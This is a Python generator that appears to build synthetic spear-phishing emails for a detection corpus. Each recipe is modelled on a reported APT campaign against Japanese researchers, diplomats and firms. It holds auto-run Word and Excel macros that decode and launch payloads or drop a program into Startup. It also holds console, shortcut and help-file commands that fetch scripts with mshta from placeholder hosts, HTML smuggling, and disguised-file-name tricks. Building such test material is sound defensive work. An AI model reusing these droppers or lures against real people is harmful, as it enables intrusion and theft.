"""Attacks on diplomacy, think-tanks, media, industry and research, 2018 to 2025: locked documents, macros,
images of disks, help files, consoles, pages, links and plain questions."""
import base64

from held.envelope import docx, zipped
from kit import Fat, Iso, Pe, Zip, agile, chm, docs, icons, lnk, office, packaged, vhdx
from recipe import Recipe, auth

ANEL_VBA = """Attribute VB_Name = "ThisDocument"
Private Sub Document_Open()
    On Error Resume Next
    Dim p As String, n As Integer
    p = Environ("TEMP") & "\\"
    n = FreeFile
    Open p & "padre1.txt" For Output As #n
    Print #n, ActiveDocument.Shapes(1).TextFrame.TextRange.Text
    Close #n
    Shell "cmd.exe /c certutil -decode " & p & "padre1.txt " & p & "GUP.txt & esentutl.exe /y " & p & "GUP.txt /d " & p & "GUP.exe /o & start " & p & "GUP.exe", vbHide
End Sub
"""
CV_VBA = """Attribute VB_Name = "ThisDocument"
Sub Document_Open()
    Dim a, i, f
    a = UserForm1.TextBox1.Text
    f = Environ("APPDATA") & "\\Microsoft\\Windows\\Templates\\vmtools.dll"
    With CreateObject("ADODB.Stream")
        .Type = 1
        .Open
        .Write Decode(a)
        .SaveToFile f, 2
    End With
    CreateObject("WScript.Shell").Run "rundll32.exe " & f & ",main", 0
End Sub
"""
QUOTE_VBA = """Attribute VB_Name = "ThisWorkbook"
Private Sub Workbook_Open()
    Dim d() As Byte, i As Long, n As Integer, h As String
    h = Sheets("data").Range("A1").Value
    ReDim d(Len(h) / 2 - 1)
    For i = 0 To UBound(d)
        d(i) = CByte("&H" & Mid(h, i * 2 + 1, 2))
    Next
    n = FreeFile
    Open Environ("APPDATA") & "\\Microsoft\\Windows\\Start Menu\\Programs\\Startup\\dwm.exe" For Binary As #n
    Put #n, , d
    Close #n
End Sub
"""
CONSOLE = ("<?xml version=\"1.0\"?>\n<MMC_ConsoleFile ConsoleVersion=\"3.0\" ProgramMode=\"UserSDI\">\n<ConsoleFileID>{00000000-0000-0000-0000-000000000000}</ConsoleFileID>\n"
           "<VisualAttributes><Icon Index=\"0\" File=\"C:\\Program Files\\Microsoft Office\\Office16\\WINWORD.EXE\"/></VisualAttributes>\n"
           "<ConsoleTaskpads><ConsoleTaskpad ListSize=\"Medium\" IsNodeSpecific=\"true\"><Tasks><Task Type=\"CommandLine\" Command=\"cmd.exe\">\n"
           "<String Name=\"Name\" ID=\"5\"/><Symbol><Image Name=\"Small\" BinaryRefIndex=\"6\"/></Symbol>\n"
           "<CommandLine Directory=\"\" WindowState=\"Minimized\" Params=\"/c mode 15,1&amp;start explorer &quot;https://docs.example.invalid/essay&quot;&amp;"
           "mshta https://brand.example.invalid/ess.hta&amp;schtasks /create /tn OneDriveUpdate /tr wscript\"/>\n</Task></Tasks></ConsoleTaskpad></ConsoleTaskpads>\n"
           "<StringTables><StringTable><Strings><String ID=\"5\" Refs=\"1\">Open</String></Strings></StringTable></StringTables></MMC_ConsoleFile>\n")


def royal():
    """Rich text with a packed file 8.t and an empty equation, as builders of that time left them."""
    def ole1(name, data):
        raw = name + b"\0"
        return (b"\1\5\0\0\2\0\0\0" + len(raw).to_bytes(4, "little") + raw + bytes(8) + len(data).to_bytes(4, "little") + data).hex()
    pack = packaged("8.t", docs.noise(4000), "C:\\Aaa\\tmp\\8.t")[4:]
    return ("{\\rtf1\\ansi\\ansicpg1252\\deff0\\deflang1033{\\fonttbl{\\f0\\fnil Calibri;}}\n\\pard\\f0\\fs22 Draft\\par\n"
            "{\\object\\objemb\\objw1\\objh1{\\*\\objclass Package}{\\*\\objdata %s}}\n"
            "{\\object\\objemb\\objupdate\\objw1\\objh1{\\*\\objclass Equation.3}{\\*\\objdata %s}}\n}\n" % (
                ole1(b"Package", pack), ole1(b"Equation.3", bytes(64)))).encode()


def helper():
    page = ("<html><head></head><body><object id=shortcut classid=\"clsid:adb880a6-d8ff-11cf-9377-00aa003b7a11\" width=1 height=1>"
            "<param name=\"Command\" value=\"ShortCut\"><param name=\"Button\" value=\"Bitmap:shortcut\">"
            "<param name=\"Item1\" value=\",cmd, /c echo T24gRXJyb3I= > %%USERPROFILE%%\\Links\\d.dat &amp; certutil -f -decode %%USERPROFILE%%\\Links\\d.dat %%USERPROFILE%%\\Links\\d.vbs\">"
            "<param name=\"Item2\" value=\"273,1,1\"></object><script>shortcut.Click();</script><p>論文審査要領</p></body></html>")
    return chm([("page_1.html", page.replace("%%", "%").encode("utf-8")), ("index.hhk", b"<ul></ul>")])


def study():
    go = lnk("/c copy wcn.dll %APPDATA%\\Microsoft\\Word\\STARTUP\\wcn.wll & start 安全保障研究会資料.pdf", "C:\\Windows\\System32\\cmd.exe",
             icon="C:\\Program Files (x86)\\Microsoft\\Edge\\Application\\msedge.exe", icon_index=11, show=7, machine="desktop-u8pmh7f")
    return Iso(volume="2022_04").add("安全保障研究会資料.pdf.lnk", go).add("安全保障研究会資料.pdf", docs.PDF, hidden=True).add(
        "wcn.dll", Pe(stamp=0x62600000, dll=True).bytes(), hidden=True).bytes()


def curriculum():
    go = lnk("/c start \"\" .\\職務経歴書.pdf & .\\git\\gcmd.exe -x .\\git\\glog.txt", "C:\\Windows\\System32\\cmd.exe", icon="C:\\Windows\\System32\\imageres.dll", icon_index=97, show=7)
    disk = Fat(sectors=2880, hidden_folders=("git",)).add("職務経歴書.pdf.lnk", go).add("職務経歴書.pdf", docs.PDF)
    disk.add("git/gcmd.exe", Pe(stamp=0x66000000).version(ProductName="Git", CompanyName="The Git Development Community").sign().bytes())
    return vhdx(disk.add("git/glog.txt", b"reg add HKCU\\Software\\Classes\\CLSID\\{F82B4EF1} /ve /d %LOCALAPPDATA%\\Microsoft\\x.db\r\n").bytes())


def wine():
    inner = Zip().add("Invitation.iso", Iso(volume="INV").add("Invitation.exe", Pe(stamp=0x63F00000).icon(icons.document()).sign().bytes()).add(
        "AppvIsvSubsystems64.dll", Pe(stamp=0x63F00000, dll=True).bytes(), hidden=True).bytes()).bytes()
    return ("<html><head><title>Embassy</title></head><body style=\"font-family:Georgia\"><h2>Invitation</h2><p>The Ambassador requests the pleasure of your company.</p>\n<script>\n"
            "var t=atob('%s');var u=new Uint8Array(t.length);for(var i=0;i<t.length;i++){u[i]=t.charCodeAt(i)}\n"
            "if(navigator.userAgent.indexOf('Windows')>0){var f=new Blob([u],{type:'application/zip'});var e=URL.createObjectURL(f);\n"
            "var l=document.createElement('a');l.href=e;l.download='Invitation.zip';l.click()}\n</script></body></html>\n" % base64.b64encode(inner).decode()).encode()


def padded():
    return Pe(stamp=0x5C400000).icon(icons.document(accent=(20, 110, 60))).bytes() + bytes(3 << 20)


RECIPES = [
    Recipe("h-anel-locked", "targeted", "FireEye, 2018-09: APT10 against Japanese media (UPPERCUT/ANEL), locked Word, word in the letter, maritime and diplomatic subjects",
           "A lecture's record from a free mailbox; the locked document asks for macros.", "【送付】駐外大使講演録(海洋安全保障)", "ogata.kouenkai@yahoo.co.jp", name="講演会事務局 緒方", hard=True,
           twin="h-applicant-cv", to="kenkyu-c@example.ac.jp", charset="utf-8", date="Wed, 11 Jul 2018 10:12:40 +0900", message_id="<1771404093.228117.1531271560112.JavaMail.yahoo@mail.yahoo.co.jp>",
           body="先生\n\nいつもお世話になっております。講演会事務局の緒方です。\n\n先週ご参加いただいた大使の講演録ができましたので、お送りいたします。\n"
                "未公表の内容を含みますので、パスワードを設定しております。お取扱いにはご注意ください。\n{password}\n次回は9月を予定しております。引き続きよろしくお願いいたします。\n",
           password_line="パスワード: delegate", headers=[auth("pass", "pass", "none", "yahoo.co.jp")], client=("nh505-vm11.bullet.mail.kks.yahoo.co.jp", "198.51.100.111"),
           attach=[("大使講演録.doc", lambda: agile(office.docm(ANEL_VBA, text="コンテンツの有効化を押してください"), "delegate"), "application/msword")]),
    Recipe("h-lodeinfo-cv", "targeted", "JPCERT/CC, 2020-02 and -06: LODEINFO, papers of applicants with macros, from free mailboxes, 2019-12 on",
           "An applicant's papers from a free mailbox; a document with a macro.", "応募書類の送付", "hayase.nozomi1991@gmail.com", name="早瀬望", twin="h-emotet-bonus", to="jinji@example.ac.jp",
           charset="utf-8", date="Tue, 24 Dec 2019 11:02:54 +0900", message_id="<CAH0cVb7fLr2=9YkQ@mail.gmail.com>",
           body="採用ご担当者様\n\n求人情報を拝見し、応募いたします早瀬望と申します。\n履歴書を添付いたしましたので、ご査収ください。\n面接の機会をいただけますと幸いです。\n\n早瀬 望\n",
           headers=[auth("pass", "pass", "pass", "gmail.com")], client=("mail-ot1-f54.google.com", "203.0.113.154"),
           attach=[("履歴書.doc", lambda: office.doc(CV_VBA, text="この文書は新しいバージョンで作成されました"), "application/msword")]),
    Recipe("h-flagpro-quote", "targeted", "NTT Security, 2021-12: Flagpro by BlackTech, locked archives with xlsm, word in the letter, adjusted to the receiver, since 2020-10",
           "A supplier's buyer asks for a price; the sheet of a locked zip puts a program into Startup.", "見積依頼の件(HP-30 追加分)", "uchida@kikai-shoji.example", name="機械商事 内田", hard=True,
           twin="h-emotet-locked", to="eigyo@example.co.jp", date="Mon, 12 Oct 2020 10:33:19 +0900", message_id="<20201012013319.8B1C7@kikai-shoji.example>",
           body="例示商事株式会社 営業部 高田様\n\nいつもお世話になっております。機械商事の内田です。\n\n先月ご相談しました HP-30 の追加分(40台)について、正式にお見積をお願いいたします。\n"
                "納入先と仕様は添付の依頼書に記載しております。お手数ですが、15日までにご回答いただけますと助かります。\n{password}\nよろしくお願いいたします。\n\n"
                "機械商事株式会社 調達部 内田 誠\nTEL 052-000-0000\n",
           password_line="ZIPのパスワード:kikai1012", headers=[("X-Mailer", "Microsoft Outlook 16.0"), auth("none", "none", "none", "kikai-shoji.example")], client=("mail.vpsnet.example", "203.0.113.138"),
           attach=[("見積依頼書.zip", zipped(("見積依頼書_HP-30.xlsm", lambda: office.xlsm(QUOTE_VBA, text="見積依頼書")), password="kikai1012"), "application/zip")]),
    Recipe("h-supplier-locked", "targeted", "Trend Micro, 2019-11: Operation ENDTRADE (Tick), mail from taken accounts of real firms, names turned by U+202E, programs filled up to great size",
           "A real partner's taken mailbox sends a locked zip; a huge program whose name is turned.", "2019年度 昇給および賞与改定について", "zhang.wei@denshi-shanghai.example", name="電子上海 張", hard=True,
           twin="h-bank-locked", to="eigyo@example.co.jp", charset="utf-8", date="Thu, 24 Jan 2019 15:27:11 +0800", message_id="<2019012415271108841@denshi-shanghai.example>",
           body="高田様\n\nお世話になっております。電子上海の張です。\n\n先日お電話でお話のありました、当社の昇給および賞与改定の資料をお送りします。\n日本側の駐在員の方も対象になりますので、ご確認ください。\n{password}\n張\n",
           password_line="解凍パスワードは denshi2019 です。", headers=[("X-Mailer", "Foxmail 7.2.9.156[cn]"), auth("pass", "pass", "none", "denshi-shanghai.example")],
           client=("mail.denshi-shanghai.example", "198.51.100.118"),
           attach=[("2019改定.zip", lambda: Zip().add("2019年昇給賞与改定\u202exslx.exe", padded(), password="denshi2019").bytes(), "application/zip")]),
    Recipe("h-password-shortcut", "targeted", "F-Secure, 2020-08, and JPCERT/CC, 2019-07: CryptoMimic/Dangerous Password, a locked document beside Password.txt.lnk",
           "A business plan from an investor; the word for the document is a shortcut.", "Investment proposal for your sensor business", "h.tanabe@mizuki-capital.example", name="Hiroshi Tanabe",
           twin="h-emotet-shortcut", to="info@example.co.jp", charset="utf-8", date="Thu, 20 Feb 2020 09:58:23 +0900", message_id="<0101017061f1a7c1-8841@mizuki-capital.example>",
           body="Dear Mr. Takada,\n\nIt was a pleasure to talk with you on LinkedIn last week. As promised, I am sending our term sheet and the\nquestions of the committee. The document is protected, the password is in the text file.\n\n"
                "Could we have a short call on Friday?\n\nKind regards,\nHiroshi Tanabe\nMizuki Capital\n",
           headers=[auth("pass", "pass", "pass", "mizuki-capital.example")], client=("a12-88.smtp-out.cloud.example", "198.51.100.188"),
           attach=[("Term Sheet.zip", lambda: Zip().add("Term Sheet.docx", agile(docs.ooxml("docx"), "nobody knows")).add("Password.txt.lnk", lnk(
               "/c start /b %SystemRoot%\\System32\\mshta https://bit.example.invalid/2vXw", "C:\\Windows\\System32\\cmd.exe",
               icon="C:\\Windows\\System32\\notepad.exe", show=7, machine="desktop-7ig")).bytes(), "application/zip")]),
    Recipe("h-royal-text", "targeted", "nao_sec and Proofpoint, 2019 to 2020: rich text with 8.t (Royal Road) against Japan and Mongolia by several groups",
           "A foreign ministry's programme of a visit; rich text with a packed file and an equation.", "Draft programme of the working visit (revised)", "protocol@mfa-events.example", name="Protocol Section",
           hard=True, to="kokusai@example.ac.jp", charset="us-ascii", date="Mon, 02 Mar 2020 12:08:51 +0800", message_id="<3d0f7ac1.20200302@mfa-events.example>",
           body="Dear Sir/Madam,\n\nPlease find attached the revised draft programme of the working visit for your comments.\nKindly reply by Wednesday.\n\nProtocol Section\n",
           headers=[("X-Mailer", "Microsoft Outlook 15.0"), auth("none", "none", "none", "mfa-events.example")], client=("mail.mfa-events.example", "203.0.113.52"),
           attach=[("Draft programme.doc", royal, "application/msword")]),
    Recipe("h-question-first", "targeted", "NPA and NISC, 2022-11: attacks on scholars and think-tanks begin with requests for interviews and lectures",
           "First turn: a request for a lecture in the name of a real foundation's staff; no file, no link.", "研究会ご登壇のお願い", "nakatsuka.foundation@gmail.com", name="中塚 悟(国際政策財団)", hard=True, alone=False,
           to="kenkyu-c@example.ac.jp", charset="utf-8", date="Mon, 31 Oct 2022 13:19:45 +0900", message_id="<CAL8gT=Yb4dQ@mail.gmail.com>",
           body="先生\n\n突然のご連絡をお許しください。国際政策財団で研究員をしております中塚と申します。\n\n当財団では12月に「北極域と安全保障」をテーマとする非公開の研究会を予定しており、先生にぜひご登壇いただきたく存じます。\n"
                "形式はオンライン、時間は質疑を含めて60分程度、謝金は規定によりお支払いいたします。\n\nご関心をお持ちいただけるようでしたら、概要と質問項目をお送りいたします。\nお返事をお待ちしております。\n\n中塚 悟\n",
           headers=[auth("pass", "pass", "pass", "gmail.com")], client=("mail-ed1-f47.google.com", "203.0.113.147")),
    Recipe("h-restylink-iso", "targeted", "NTT Security (R. Koike), 2022-05: Operation RestyLink against Japan (image with a shortcut; there behind a link, here attached)",
           "Papers of a study meeting on security; an image with a shortcut and a hidden library.", "安全保障研究会(4月例会)資料送付", "jimukyoku.anpo@outlook.com", name="安全保障研究会事務局", twin="h-instrument-iso",
           to="kenkyu-c@example.ac.jp", charset="utf-8", date="Mon, 25 Apr 2022 18:21:36 +0900", message_id="<TY0PR0101MB4415.apcprd01.prod.exchangelabs.com>",
           body="会員各位\n\n4月例会の資料をお送りいたします。容量が大きいため、ディスクイメージの形式にしております。\nダブルクリックしてご覧ください。\n\n当日の質問は事前にお寄せいただけますと幸いです。\n\n安全保障研究会事務局\n",
           headers=[auth("pass", "pass", "pass", "outlook.com")], client=("apc01-psa-obe.outbound.protection.outlook.com", "203.0.113.202"), attach=[("安全保障研究会資料.iso", study)]),
    Recipe("h-template-remote", "targeted", "Trend Micro, 2023-02: Earth Yako against Japanese researchers and think-tanks, 2022 (documents whose template comes from outside)",
           "A call for a paper of a policy journal; the document fetches its template from outside.", "寄稿のお願い(季刊・外交と技術 秋号)", "henshu@gaikou-gijutsu.example", name="季刊・外交と技術 編集部", hard=True,
           twin="h-template-path", to="kenkyu-c@example.ac.jp", charset="utf-8", date="Tue, 26 Jul 2022 15:05:02 +0900", message_id="<62dfa0fe.henshu@gaikou-gijutsu.example>",
           body="先生\n\nはじめてご連絡いたします。季刊・外交と技術 編集部の芹沢と申します。\n\n秋号の特集「経済安全保障と研究インテグリティ」に、8,000字程度でご寄稿をお願いできないでしょうか。\n執筆要領と依頼書をお送りしますので、ご一読ください。\n\n編集部 芹沢\n",
           headers=[auth("pass", "pass", "none", "gaikou-gijutsu.example")], client=("mail.gaikou-gijutsu.example", "203.0.113.116"),
           attach=[("執筆依頼書.docx", lambda: office.docx_template("https://disk.example.invalid/s/8f2c/style.dotm", "執筆依頼書"),
                    "application/vnd.openxmlformats-officedocument.wordprocessingml.document")]),
    Recipe("h-embassy-page", "targeted", "BlackBerry and Mandiant, 2023-03: APT29 (EnvyScout) by pages that build a file, invitations of embassies", "An embassy's invitation; a page that builds a zip with an image in it.",
           "Invitation - Reception on the occasion of the National Day", "protocol@embassy-tokyo.example", name="Embassy, Protocol", twin="h-qakbot-page", to="kokusai@example.ac.jp", charset="utf-8",
           date="Thu, 02 Mar 2023 10:41:17 +0100", message_id="<9b1e7f3dc0a244d1@embassy-tokyo.example>",
           body="Dear Director,\n\nThe Embassy presents its compliments and has the honour to invite you to a reception and wine tasting on 16 March.\nThe invitation with the programme is attached. Kindly confirm by 9 March.\n\nProtocol Section\n",
           headers=[auth("pass", "none", "none", "embassy-tokyo.example")], client=("host41.webspace.example", "198.51.100.41"), attach=[("Invitation.html", wine, "text/html")]),
    Recipe("h-review-chm", "targeted", "AhnLab and Hauri, 2023-03 (Newsis via koreawave.jp): Kimsuky, requests to review a paper, zip with a compiled help file",
           "A journal asks for a review; beside the form lies a help file that runs a command.", "論文査読のお願い(東アジア研究フォーラム)", "eaforum.henshu@daum.net", name="東アジア研究フォーラム編集委員会", twin="h-help-chm",
           to="kenkyu-c@example.ac.jp", charset="utf-8", date="Mon, 06 Mar 2023 11:53:28 +0900", message_id="<20230306115328.HM.0000000001@eaforum.henshu.daum.net>",
           body="先生\n\nこんにちは。東アジア研究フォーラム編集委員会です。\n先生のご専門に近い投稿論文がございますので、査読をお願いしたくご連絡差し上げます。\n"
                "お忙しいところ恐縮ですが、添付の依頼書と論文をご確認のうえ、3月20日までにお返事をいただければ幸いです。\n\n編集委員会\n",
           headers=[auth("pass", "pass", "pass", "daum.net")], client=("mail-smtp3.hanmail.example", "198.51.100.143"),
           attach=[("査読依頼.zip", zipped(("査読依頼書.docx", docx), ("2023-3-2.chm", helper)), "application/zip")]),
    Recipe("h-cloud-alliance", "targeted", "Trend Micro, 2024-11 (Earth Kasha) and NPA/NISC, 2025-01 (MirrorFace): links to shared folders on the alliance and the Taiwan Strait",
           "A draft on the alliance shared from a real cloud account; only the link's page would tell.", "日米同盟に関する報告書(案)の共有", "m.kuroda.policy@gmail.com", name="黒田 光", hard=True, alone=False,
           twin="h-drive-share", to="kenkyu-c@example.ac.jp", charset="utf-8", date="Mon, 24 Jun 2024 09:37:56 +0900", message_id="<CADv2x0m=QpRk@mail.gmail.com>",
           body="先生\n\nお世話になっております。黒田です。\n\n先日お話しした日米同盟と台湾海峡に関する報告書の案がまとまりましたので、共有いたします。\n\nhttps://1drv.ms/f/s!AkQ7b0\n\nコメントを来週中にいただけますと幸いです。\n\n黒田\n",
           headers=[auth("pass", "pass", "pass", "gmail.com")], client=("mail-qv1-f53.google.com", "203.0.113.153")),
    Recipe("h-security-blanks", "targeted", "JPCERT/CC, 2024-07: Kimsuky against Japan, 2024-03 (zip with a program named docx, many blanks, and two decoys)",
           "In the name of an office for security and diplomacy; three files, one is a program behind blanks.", "意見交換会の開催について", "anpo.gaiko.kondan@gmail.com", name="安全保障外交懇談会 事務局", to="kenkyu-c@example.ac.jp",
           charset="utf-8", date="Wed, 13 Mar 2024 16:44:01 +0900", message_id="<CABo7Vn=3WzYt@mail.gmail.com>",
           body="先生\n\n平素より大変お世話になっております。\n標記の意見交換会を4月10日に開催いたします。案内と質問票をお送りしますので、ご確認のほどお願い申し上げます。\n\n安全保障外交懇談会 事務局\n",
           headers=[auth("pass", "pass", "pass", "gmail.com")], client=("mail-pl1-f172.google.com", "203.0.113.192"),
           attach=[("意見交換会.zip", zipped(("意見交換会_案内.docx" + " " * 120 + ".exe", lambda: Pe(stamp=0x65F00000).icon(icons.document()).bytes()),
                                        ("質問票.docx" + " " * 40 + ".docx", docx), ("出席者名簿.docx" + " " * 40 + ".docx", docx), charset="utf-8"), "application/zip")]),
    Recipe("h-console-essay", "targeted", "Genians, 2024-05: Kimsuky against Korea and Japan with console files (.msc)", "An essay on the sanctions sent for comments; the file is a console with a task.",
           "エッセイへのコメントのお願い", "park.seungho.edu@gmail.com", name="朴承浩", to="kenkyu-c@example.ac.jp", charset="utf-8", date="Tue, 16 Apr 2024 12:30:15 +0900", message_id="<CAFz5kB=tR7Qw@mail.gmail.com>",
           body="先生、こんにちは。\n\nソウルの朴です。先週はFacebookでお返事をいただき、ありがとうございました。\n北東アジアの制裁と人道に関する短いエッセイを書きましたので、お時間のあるときにご意見をいただければ嬉しいです。\n\n朴承浩\n",
           headers=[auth("pass", "pass", "pass", "gmail.com")], client=("mail-wm1-f50.google.com", "203.0.113.150"), attach=[("エッセイ_朴承浩.msc", CONSOLE.encode())]),
    Recipe("h-applicant-disk", "targeted", "JPCERT/CC, 2024-11 and 2025-11: APT-C-60 against Japan, applicants, VHDX (in 2025 attached to the mail itself)",
           "An applicant's papers as a virtual disk with a shortcut and a hidden folder.", "研究職への応募について", "aoki.tomoya.res@gmail.com", name="青木智也", to="jinji@example.ac.jp", charset="utf-8",
           date="Thu, 17 Jul 2025 10:09:27 +0900", message_id="<CAPw9mJ=0sLxe@mail.gmail.com>",
           body="人事ご担当者様\n\nはじめまして。青木智也と申します。\n貴所の研究職の募集を拝見し、応募いたします。職務経歴書と研究概要をまとめてお送りいたします。\nご確認のほど、よろしくお願いいたします。\n\n青木 智也\n",
           headers=[auth("pass", "pass", "pass", "gmail.com")], client=("mail-yb1-f178.google.com", "203.0.113.178"), attach=[("応募書類_青木智也.vhdx", curriculum)]),
]
